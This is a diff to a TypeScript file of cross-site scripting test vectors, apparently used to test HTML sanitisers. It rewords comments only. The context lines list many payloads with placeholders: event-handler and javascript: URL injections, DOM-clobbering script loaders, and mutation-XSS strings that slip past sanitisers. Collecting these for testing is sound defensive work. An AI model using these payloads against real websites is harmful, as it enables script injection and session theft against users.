@@ -1,4 +1,4 @@
-/** Vectors between tags; their marks are told by `xss-vectors.ts`. */
+/** Vectors between tags; `xss-vectors.ts` explains their placeholders. */
 export const HTML_VECTORS = [
   // Scripts, as they are and in disguise.
   `<script>{js}</script>`,
@@ -22,7 +22,7 @@ export const HTML_VECTORS = [
   `<svg><script xlink:href="data:text/javascript,{js}"></script></svg>`,
   `<svg xmlns="http://www.w3.org/2000/svg"><style></style><script><![CDATA[{js}]]></script></svg>`,
 
-  // Handlers that need nobody.
+  // Handlers that run without a click.
   `<img src=x onerror={js}>`,
   `<img src=x onerror="{js}">`,
   `<img src=x onerror='{js}'>`,
@@ -101,7 +101,7 @@ export const HTML_VECTORS = [
   `<xss onfocus={js} autofocus tabindex=1>x</xss>`,
   `<p id=x tabindex=1 onfocus={js}>x</p><iframe onload="top.document.getElementById('x').focus()"></iframe>`,
 
-  // Where the page leads to.
+  // Addresses that the page opens.
   `<meta http-equiv=refresh content="0;url={page}">`,
   `<META HTTP-EQUIV="refresh" CONTENT="0; URL='{page}'">`,
   `<base href="{base}"><script src="a.js"></script>`,
@@ -118,14 +118,14 @@ export const HTML_VECTORS = [
   `<svg width=99 height=99><a><set attributeName=href to="javascript:{js}" /><text id=go y=20>x</text></a></svg>`,
   `<map name=m><area id=go shape=rect coords=0,0,99,99 href="javascript:{js}"></map><img usemap=#m width=99 height=99 src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==">`,
 
-  // Names and ids that stand for what a script looks for.
+  // Names and ids that replace variables which a script reads.
   `<a id=config></a><a id=config name=file href="{file}"></a><script>const s=document.createElement("script");s.src=config.file;document.body.append(s)</script>`,
   `<form id=application name=fetch><input name=elements></form><img src=x onerror="{js}">`,
   `<a id=xssed href="javascript:{js}"></a><script>location=xssed</script>`,
   `<iframe name=settings srcdoc="<a id=src href='{file}'></a>" onload="import(settings.src)"></iframe>`,
 ];
 
-/** What is read in one way and read again in another. */
+/** Mutation: HTML that is parsed once, written out, and parsed differently the second time. */
 export const MUTATION_VECTORS = [
   `<noscript>&lt;/noscript&gt;<i title="</noscript><svg onload={js}>"></noscript>`,
   `<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>`,
@@ -167,7 +167,10 @@ export const MUTATION_VECTORS = [
   `<div><a href="/"><table><td><a title="x"><img src=x onerror={js}></table>`,
 ];
 
-/** What runs once a sanitiser's tree is written out and read again, as HTML in a page with scripts. */
+/**
+ * HTML that runs once a sanitiser without scripts has written it out and a page with scripts
+ * parses it.
+ */
 export const REREAD_VECTORS = [
   `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>`,
   `<math><mtext><table><mglyph><style><math><img src onerror={js}>`,
@@ -176,7 +179,7 @@ export const REREAD_VECTORS = [
   `<noscript><style></noscript><img src=x onerror={js}></style></noscript>`,
 ];
 
-/** Made for browsers of old, or held back by Chromium itself. */
+/** Made for old browsers, or blocked by Chromium itself. */
 export const LEGACY_HTML_VECTORS = [
   `<img src="javascript:{js}">`,
   `<object data="javascript:{js}"></object>`,
